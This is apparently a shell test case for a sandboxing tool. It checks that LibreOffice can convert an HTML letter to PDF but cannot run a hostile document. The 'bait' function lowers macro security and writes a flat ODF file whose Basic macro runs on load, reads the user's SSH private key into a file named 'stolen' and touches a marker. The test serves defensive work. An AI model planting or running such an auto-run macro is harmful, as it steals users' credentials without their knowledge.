needs libreoffice-writer-nogui:/usr/bin/libreoffice poppler-utils:/usr/bin/pdfimages python3:/usr/bin/python3

given() {
    mkdir ~/papers
    printf '<html><body><h1>A letter</h1><p>Dear reader</p></body></html>' >~/papers/letter.html
}

office() { $ward libreoffice -env:UserInstallation="file://$PWD/office" --headless --convert-to "$@" >/dev/null 2>&1; }

generated='*.pdf'
works() {
    office pdf:writer_web_pdf_Export ~/papers/letter.html
    pdftotext letter.pdf -
    rm -rf office
}

# A conversion runs no macros, so the document is opened, by somebody who has allowed them. The program ends with an `Unspecified
# Application Error` in any case: it is told to end while it is still loading.
attack='a document whose macro starts a shell (Shell), which copies a private key and starts a program'
goal='executed'
denied='execute /usr/bin/touch'
bait() {
    mkdir -p office/user
    cat >office/user/registrymodifications.xcu <<'SETTINGS'
<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry">
<item oor:path="/org.openoffice.Office.Common/Security/Scripting">
<prop oor:name="MacroSecurityLevel" oor:op="fuse"><value>0</value></prop></item></oor:items>
SETTINGS
    cat >~/papers/hostile.fodt <<'ODF'
<?xml version="1.0" encoding="UTF-8"?>
<office:document office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text"
  xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
  xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"
  xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:ooo="http://openoffice.org/2004/office">
<office:scripts>
<office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="Hostile">
<ooo:source-code>
Sub Main
  On Error Resume Next
  Shell("/bin/sh", 0, "-c 'cd /home/you/work; read key &lt;../.ssh/id_ed25519; echo $key >stolen; touch executed'", True)
  StarDesktop.terminate()
End Sub
</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>
<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:type="simple"
  xlink:href="vnd.sun.star.script:Standard.Hostile.Main?language=Basic&amp;location=document"/></office:event-listeners>
</office:scripts>
<office:body><office:text><text:p>Dear reader</text:p></office:text></office:body></office:document>
ODF
}
attack() { $ward libreoffice -env:UserInstallation="file://$PWD/office" --headless ~/papers/hostile.fodt; }
